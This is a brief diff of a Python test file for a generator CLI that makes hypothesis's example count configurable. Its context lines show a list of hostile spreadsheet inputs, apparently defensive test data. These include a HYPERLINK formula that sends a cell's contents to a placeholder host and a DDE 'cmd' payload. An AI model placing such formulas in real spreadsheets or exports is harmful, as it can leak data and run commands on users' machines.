@@ -16,7 +16,7 @@ import yaml
 from click.testing import CliRunner
 from hypothesis import HealthCheck, event, given, settings, strategies as st
 
-from conftest import GOOD_PRIMARY, REPO
+from conftest import GOOD_PRIMARY, REPO, examples
 from generator.cli import main
 
 HOSTILE_TEXT = ['=HYPERLINK("http://x/?"&A1,"点此")', "=cmd|' /C calc'!A0", "+1", "-1+1", "@SUM(A1)", "\t=1",
@@ -118,7 +118,7 @@ def _check(verb, source_text):
                     assert verb == "plan-ledger"
 
 
-SETTINGS = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+SETTINGS = settings(max_examples=examples(60), deadline=None, suppress_health_check=[HealthCheck.too_slow])
 
 
 @SETTINGS
